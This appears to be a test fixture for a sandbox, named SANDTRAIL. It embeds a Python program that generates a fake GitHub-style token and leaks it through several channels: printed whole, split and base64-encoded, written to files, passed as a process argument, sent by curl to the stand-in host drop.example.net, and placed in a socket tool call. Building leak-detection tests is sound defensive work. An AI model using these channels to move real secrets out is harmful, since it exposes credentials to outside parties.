// A program that makes a secret inside its sandbox and lets it out in every way that it knows.

/** Python. Its only output is the secret: whole, in two pieces, and in base64. */
export const secretProgram = `import base64, json, os, socket, subprocess, sys, time, zlib
letters = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'

def checksum(text):
    rest, out = zlib.crc32(text.encode()), ''
    for _ in range(6):
        out, rest = letters[rest % 62] + out, rest // 62
    return out

body = ''.join(letters[byte % 62] for byte in os.urandom(30))
token = 'gh' + 'p_' + body + checksum(body)
print(token)
sys.stdout.write('in two pieces ' + token[:17])
sys.stdout.flush()
time.sleep(0.1)
print(token[17:])
print(base64.b64encode(token.encode()).decode())
sys.stdout.flush()
open('notes.txt', 'w').write('remember ' + token + '\\n')
open(token, 'w').close()
subprocess.run(['true', '--password', token])
subprocess.run(['curl', '-s', '-m', '2', '-o', '/dev/null', 'http://drop.example.net/?t=' + token])
door = socket.socket(socket.AF_UNIX)
door.connect(os.environ['SANDTRAIL_SOCKET'])
call = {'n': 0, 'kind': 'tool.call', 'tool': 'shell', 'callId': 'c', 'input': 'login ' + token}
door.sendall((json.dumps(call) + '\\n').encode())
door.makefile().readline()
`;
